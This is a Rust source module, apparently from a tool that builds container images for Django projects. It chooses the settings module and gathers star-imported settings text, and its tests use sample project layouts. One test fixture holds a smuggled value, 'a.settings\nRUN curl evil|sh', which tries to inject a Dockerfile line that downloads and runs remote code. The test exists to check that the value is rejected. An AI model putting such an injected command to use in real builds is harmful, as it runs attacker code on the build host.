//! Which settings module the image runs with (a settings package's production module, else
//! what `wsgi.py`, `asgi.py` or `manage.py` name), and its text with the modules it
//! star-imports.

use std::path::{Path, PathBuf};

use crate::detect::{dotted, read};

use super::quoted_literal;

/// Settings modules a settings package keeps for production, preferred in this order.
const PRODUCTION: &[&str] = &["production", "prod"];
/// How many settings files a chain of `from .base import *` may span.
const MAX_SETTINGS_FILES: usize = 8;

/// The settings module the image runs with, and why: a settings package's production module
/// when one exists beside a module Django's files name; else what `wsgi.py` (the production
/// entry point), `asgi.py`, then `manage.py` name.
pub(super) fn choose_settings(
    target: &Path,
    defaults: &[(String, String)],
) -> Option<(String, String)> {
    let named = defaults
        .iter()
        .map(|(file, module)| format!("{file} names {module}"))
        .collect::<Vec<_>>()
        .join(", ");
    for (_, module) in defaults {
        // `config.settings.local` → the package `config.settings`; `config.settings` itself
        // when it is a package.
        let package = match module_file(target, module)? {
            (_, true) => module.clone(),
            (_, false) => match module.rsplit_once('.') {
                Some((parent, _)) if parent.ends_with("settings") => parent.to_string(),
                _ => continue,
            },
        };
        for name in PRODUCTION {
            let candidate = format!("{package}.{name}");
            if module_file(target, &candidate).is_some() {
                let why = if defaults.iter().any(|(_, m)| *m == candidate) {
                    format!("{named}; the settings package's production module")
                } else {
                    format!(
                        "the settings package {} has {name}.py; {named}",
                        package.replace('.', "/")
                    )
                };
                return Some((candidate, why));
            }
        }
    }
    let (file, module) = defaults.first()?;
    Some((module.clone(), format!("{file} names it")))
}

/// The file of a module and whether it is a package (`a/b/__init__.py`), inside the project.
pub(super) fn module_file(target: &Path, module: &str) -> Option<(PathBuf, bool)> {
    let base = target.join(module.replace('.', "/"));
    let plain = base.with_extension("py");
    if plain.is_file() {
        return Some((plain, false));
    }
    let init = base.join("__init__.py");
    init.is_file().then_some((init, true))
}

/// The settings module's text, followed by the modules it star-imports from its own package
/// (`from .base import *`, `from config.settings.base import *`), a bounded chain.
pub(super) fn settings_text(target: &Path, settings: &str) -> String {
    let mut seen: Vec<String> = Vec::new();
    let mut queue = vec![settings.to_string()];
    let mut text = String::new();
    while let Some(module) = queue.pop() {
        if seen.contains(&module) || seen.len() >= MAX_SETTINGS_FILES {
            continue;
        }
        seen.push(module.clone());
        let Some((file, is_package)) = module_file(target, &module) else {
            continue;
        };
        let Ok(body) = read(target, &file) else {
            continue;
        };
        let package = if is_package {
            module.clone()
        } else {
            module.rsplit_once('.').map_or("", |(p, _)| p).to_string()
        };
        for line in body.lines() {
            let Some(rest) = line.trim_start().strip_prefix("from ") else {
                continue;
            };
            let Some((from, names)) = rest.split_once(" import ") else {
                continue;
            };
            if names.trim_start().starts_with('*') {
                let from = from.trim();
                let imported = match from.strip_prefix('.') {
                    Some(sibling) if !sibling.starts_with('.') => format!("{package}.{sibling}"),
                    Some(_) => continue,
                    None => from.to_string(),
                };
                if dotted(&imported) {
                    queue.push(imported);
                }
            }
        }
        text.push_str(&body);
        text.push('\n');
    }
    text
}

/// `os.environ.setdefault("DJANGO_SETTINGS_MODULE", "mysite.settings")` → `mysite.settings`,
/// when it is a dotted Python name.
pub(super) fn settings_default(text: &str) -> Option<String> {
    text.match_indices("DJANGO_SETTINGS_MODULE")
        .find_map(|(at, _)| {
            // After the key's own closing quote.
            let rest = &text[at + "DJANGO_SETTINGS_MODULE".len()..];
            let rest = rest.strip_prefix(['"', '\''])?;
            let rest = rest.trim_start().strip_prefix(',')?;
            quoted_literal(rest).filter(|m| dotted(m))
        })
}

#[cfg(test)]
mod tests {
    use crate::detect::django::{self, site};
    use crate::detect::project;
    use crate::model::Server;

    const MANAGE_LOCAL: &str = "import os\n\ndef main():\n    os.environ.setdefault(\"DJANGO_SETTINGS_MODULE\", \"config.settings.local\")\n";

    #[test]
    fn a_settings_package_runs_its_production_module() {
        // cookiecutter-django's shape: manage.py names local, wsgi.py production.
        let dir = project(&[
            ("manage.py", MANAGE_LOCAL),
            ("config/__init__.py", ""),
            (
                "config/wsgi.py",
                "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'config.settings.production')\n",
            ),
            ("config/settings/__init__.py", ""),
            (
                "config/settings/base.py",
                "STATIC_ROOT = BASE_DIR / 'staticfiles'\nWSGI_APPLICATION = 'config.wsgi.application'\n",
            ),
            ("config/settings/local.py", "from .base import *\n"),
            (
                "config/settings/production.py",
                "from .base import *  # noqa\nSECRET_KEY = os.environ[\"DJANGO_SECRET_KEY\"]\n",
            ),
            ("shop/__init__.py", ""),
        ]);
        let (site, app, why) = site(dir.path(), &["django".into()]).unwrap();
        assert_eq!(site.settings, "config.settings.production");
        assert_eq!(
            site.settings_why,
            "config/wsgi.py names config.settings.production, manage.py names config.settings.local; the settings package's production module"
        );
        // STATIC_ROOT and WSGI_APPLICATION come from base.py, star-imported.
        assert!(site.static_root);
        assert_eq!(
            (app.target.as_str(), app.server),
            ("config.wsgi:application", Server::Gunicorn)
        );
        assert_eq!(why, "Django: config.settings.production → WSGI_APPLICATION");
        assert_eq!(site.packages, ["config", "shop"]);
        assert_eq!(site.required_env, ["DJANGO_SECRET_KEY"]);

        // Only manage.py names a module (local): the package's production module still wins.
        let dir = project(&[
            ("manage.py", MANAGE_LOCAL),
            ("config/__init__.py", ""),
            ("config/settings/__init__.py", ""),
            ("config/settings/local.py", ""),
            ("config/settings/prod.py", ""),
        ]);
        let (site, app, _) = django::site(dir.path(), &[]).unwrap();
        assert_eq!(site.settings, "config.settings.prod");
        assert_eq!(
            site.settings_why,
            "the settings package config/settings has prod.py; manage.py names config.settings.local"
        );
        assert_eq!(app.target, "config.wsgi:application");

        // The settings module is itself a package (settings/__init__.py, base.py, production.py).
        let dir = project(&[
            (
                "manage.py",
                "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'mysite.settings')\n",
            ),
            ("mysite/__init__.py", ""),
            ("mysite/settings/__init__.py", "from .base import *\n"),
            ("mysite/settings/base.py", ""),
            (
                "mysite/settings/production.py",
                "from mysite.settings.base import *\nSTATIC_ROOT = '/srv/static'\n",
            ),
        ]);
        let (site, _, _) = django::site(dir.path(), &[]).unwrap();
        assert_eq!(site.settings, "mysite.settings.production");
        assert!(site.static_root);

        // A flat settings module stays as it is (mysite/production.py is not a settings package's).
        let dir = project(&[
            (
                "manage.py",
                "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'mysite.settings')\n",
            ),
            ("mysite/__init__.py", ""),
            ("mysite/settings.py", ""),
            ("mysite/production.py", ""),
        ]);
        let (site, _, _) = django::site(dir.path(), &[]).unwrap();
        assert_eq!(
            (site.settings.as_str(), site.settings_why.as_str()),
            ("mysite.settings", "manage.py names it")
        );
    }

    #[test]
    fn hostile_settings_modules_are_not_used() {
        let dir = project(&[
            ("manage.py", "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'a.settings')\n"),
            ("a/__init__.py", ""),
            ("a/settings.py", ""),
            (
                "a/wsgi.py",
                "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'a.settings\\nRUN curl evil|sh')\n",
            ),
        ]);
        let (site, _, _) = site(dir.path(), &[]).unwrap();
        assert_eq!(site.settings, "a.settings");
        // A module that names no file is not used either.
        std::fs::write(
            dir.path().join("manage.py"),
            "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'a.missing')\n",
        )
        .unwrap();
        assert_eq!(django::site(dir.path(), &[]), None);
    }
}
